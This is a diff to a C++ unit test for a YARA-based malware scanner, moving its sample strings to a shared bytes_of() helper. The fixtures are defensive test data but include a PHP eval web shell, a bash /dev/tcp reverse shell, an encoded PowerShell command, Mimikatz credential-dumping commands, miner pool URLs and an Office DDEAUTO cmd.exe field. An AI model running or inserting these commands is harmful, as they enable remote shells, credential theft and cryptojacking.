@@ -14,10 +14,12 @@
 #include "scan/scan.hpp"
 #include "tests/support/random_bytes.hpp"
 #include "tests/support/temp_dir.hpp"
+#include "tests/unit/scan_samples.hpp"
 
 using namespace splitfs;
 using namespace splitfs::scan;
 using splitfs::testing::TempDir;
+using splitfs::testing::samples::bytes_of;
 
 namespace {
 
@@ -31,10 +33,6 @@ Bytes wide(std::string_view text) {
     out.push_back(0);
   }
   return out;
-}
-
-Bytes ascii(std::string_view text) {
-  return Bytes(text.begin(), text.end());
 }
 
 // The rules that fired, without their namespace ("splitfs:x" and "tools:x" are both "x").
@@ -56,23 +54,24 @@ struct Payload {
 std::vector<Payload> payloads() {
   const std::string b64(64, 'Q');
   return {
-      {"a PHP web shell", ascii("<?php @eval(base64_decode($_POST['x'])); ?>"),
+      {"a PHP web shell", bytes_of("<?php @eval(base64_decode($_POST['x'])); ?>"),
        "php_webshell_eval"},
-      {"a reverse shell", ascii("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "reverse_shell_dev_tcp"},
+      {"a reverse shell", bytes_of("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+       "reverse_shell_dev_tcp"},
       {"an encoded PowerShell command, its atom far from its end",
-       ascii("powershell.exe -nop -noni -enc " + b64 + " "), "powershell_encoded_command"},
+       bytes_of("powershell.exe -nop -noni -enc " + b64 + " "), "powershell_encoded_command"},
       {"the same, wide", wide("powershell -enc " + b64 + " "), "powershell_encoded_command"},
-      {"Mimikatz, its atom inside the string", ascii("lsadump::dcsync /user:krbtgt"),
+      {"Mimikatz, its atom inside the string", bytes_of("lsadump::dcsync /user:krbtgt"),
        "credential_dumper_mimikatz"},
       {"Mimikatz, wide", wide("sekurlsa::logonpasswords"), "credential_dumper_mimikatz"},
       {"a miner's pool and its name, the atom past its start",
-       ascii("stratum+tcp://pool.example.org:3333 --donate-level 1"), "cryptominer_stratum"},
+       bytes_of("stratum+tcp://pool.example.org:3333 --donate-level 1"), "cryptominer_stratum"},
       {"a miner, wide", wide("xmrig stratum+ssl://pool.example.org:443"), "cryptominer_stratum"},
-      {"a DDE field", ascii("<w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\cmd.exe "),
+      {"a DDE field", bytes_of("<w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\cmd.exe "),
        "office_dde_field"},
-      {"an eval of nothing decoded", ascii("<?php eval($code); ?>"), nullptr},
-      {"a PowerShell command too short", ascii("powershell -enc QQQQ "), nullptr},
-      {"Mimikatz's prefix alone", ascii("sekurlsa::nothing"), nullptr},
+      {"an eval of nothing decoded", bytes_of("<?php eval($code); ?>"), nullptr},
+      {"a PowerShell command too short", bytes_of("powershell -enc QQQQ "), nullptr},
+      {"Mimikatz's prefix alone", bytes_of("sekurlsa::nothing"), nullptr},
   };
 }
 
@@ -112,7 +111,7 @@ TEST_CASE("YARA's prefilter gives a full scan's verdicts and skips what no rule 
   Bytes dense = base;
   const std::string words = "evaluate the instance at random, assert nothing; ";
   for (std::size_t at = kBlock + 1000; at + words.size() < 2 * kBlock - 1000; at += words.size())
-    put(dense, at, ascii(words));
+    put(dense, at, bytes_of(words));
   {
     MemorySource source(dense);
     const Verdict quick = fast.scan(source, "text.bin");
